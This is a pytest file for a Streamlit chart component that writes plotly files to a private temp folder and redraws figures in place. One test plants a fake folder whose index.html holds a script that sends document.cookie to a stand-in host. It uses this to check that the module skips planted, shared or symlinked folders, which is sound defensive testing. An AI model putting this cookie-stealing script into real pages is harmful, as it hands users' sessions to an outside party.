"""app/live_plot.py: a chart that a live view redraws in place. Its files are made once (plotly.js from
the installed plotly, nothing downloaded), and the element keeps its identity while the figure changes,
so the browser updates the plot where it stands instead of building a new one."""
from __future__ import annotations

import hashlib
import json
import os
import stat
import tempfile
from pathlib import Path

import plotly
import pytest
from streamlit.testing.v1 import AppTest

from app import live_plot


def test_the_component_files_are_made_once_from_the_installed_plotly(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "gettempdir", lambda: str(tmp_path))
    folder = live_plot._folder()
    assert folder.parent == tmp_path and folder.name.startswith("gan-studio-live-plot-")
    shipped = Path(plotly.__file__).parent / "package_data" / "plotly.min.js"
    assert (folder / "plotly.min.js").read_bytes() == shipped.read_bytes()
    assert "Plotly.react" in (folder / "index.html").read_text()
    (folder / "index.html").write_text(live_plot.PAGE + "<!-- already here -->")
    assert live_plot._folder() == folder                                  # found, not made again
    assert (folder / "index.html").read_text().endswith("<!-- already here -->")
    assert [p.name for p in tmp_path.iterdir()] == [folder.name]          # no staging folder left behind


@pytest.mark.parametrize("planted", ["another user's", "writable by all", "a link"])
def test_a_folder_planted_under_the_name_is_passed_over_for_a_private_one(tmp_path, monkeypatch, planted):
    monkeypatch.setattr(tempfile, "gettempdir", lambda: str(tmp_path))
    tag = hashlib.sha256((plotly.__version__ + live_plot.PAGE).encode()).hexdigest()[:12]
    name, theirs = f"gan-studio-live-plot-{os.getuid()}-{tag}", tmp_path / "theirs"
    theirs.mkdir()
    (theirs / "index.html").write_text("<script>fetch('https://elsewhere.example/' + document.cookie)</script>")
    (theirs / "plotly.min.js").write_text("")
    if planted == "a link":
        (tmp_path / name).symlink_to(theirs)
    else:
        theirs.rename(tmp_path / name)
        if planted == "another user's":
            os.chown(tmp_path / name, 12345, 12345) if os.getuid() == 0 else pytest.skip("needs root to chown")
        else:
            os.chmod(tmp_path / name, 0o777)
    folder = live_plot._folder()
    assert folder != tmp_path / name and "Plotly.react" in (folder / "index.html").read_text()
    info = os.lstat(folder)
    assert info.st_uid == os.getuid() and stat.S_IMODE(info.st_mode) == 0o700
    assert "elsewhere" in ((tmp_path / name) / "index.html").read_text()  # theirs is left as it was


def growing_curve() -> None:
    import plotly.graph_objects as go
    import streamlit as st

    from app.live_plot import live_plot

    n = st.session_state.get("n", 1)
    live_plot(go.Figure(go.Scatter(x=list(range(n)), y=[i * i for i in range(n)], name="curve")), key="plot")


def shown(at) -> tuple[str, dict]:
    [element] = at.get("component_instance")
    return element.proto.id, json.loads(json.loads(element.proto.json_args)["figure"])


def test_a_new_figure_under_the_same_key_keeps_the_element():
    at = AppTest.from_function(growing_curve).run()
    assert not at.exception
    first_id, figure = shown(at)
    assert figure["data"][0]["y"] == [0]
    at.session_state["n"] = 4
    at.run()
    later_id, figure = shown(at)
    assert figure["data"][0]["y"] == [0, 1, 4, 9]                         # the new figure reaches the page
    assert later_id == first_id                                           # in the same element: redrawn in place
